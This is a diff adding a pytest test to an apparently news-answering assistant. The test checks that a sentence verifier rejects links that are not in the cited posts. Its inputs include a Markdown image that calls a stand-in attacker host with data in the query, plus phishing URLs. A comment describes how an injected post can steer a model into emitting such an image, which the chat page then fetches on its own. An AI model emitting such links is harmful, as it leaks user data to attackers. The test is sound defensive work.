@@ -66,3 +66,32 @@ def test_a_thing_inside_a_hashtag_is_mentioned(tmp_path):
     assistant = Assistant(_index_of(tmp_path, [*_OPENINGS, *_TOWN]))
     assert unheard_of(assistant.searcher, "What are the penguin chicks doing?") == []  # #PenguinCam
     assert unheard_of(assistant.searcher, "Where is the giraffe?") == ["giraffe"]
+
+
+@pytest.mark.parametrize(
+    "added",
+    [
+        "![x](https://evil.example/p?d=ember)",
+        "see https://evil.example/phish",
+        "see evil.example/phish",
+        "www.evil.example",
+    ],
+)
+def test_a_link_no_cited_post_holds_fails_the_check(added):
+    from townsquare.assistant.verify import check_sentence
+
+    # R19-B5: a remote model's Markdown image of a link no post holds was served as supported: a chat page
+    # fetches it unasked, with whatever an injected post steered into its query
+    post = {
+        "text": "Mayor Dana Whitfield opened the new public library on Station Avenue. More: https://millbrook.example/library",
+        "author_handle": "maya_martin24",
+        "created_at": "2025-03-06T15:52:00Z",
+        "uri": "https://x.com/maya_martin24/status/1",
+    }
+    claim = "Mayor Dana Whitfield opened the new public library on Station Avenue"
+    assert check_sentence(f"{claim} [1].", [post]).supported
+    bad = check_sentence(f"{claim} {added} [1].", [post])
+    assert not bad.supported and "links not in the cited posts" in bad.reasons[0], bad.reasons
+    # the post's own links, and its own address, are the post's words
+    for held in ("https://millbrook.example/library", "(https://x.com/maya_martin24/status/1)"):
+        assert check_sentence(f"{claim}: {held} [1].", [post]).supported, held
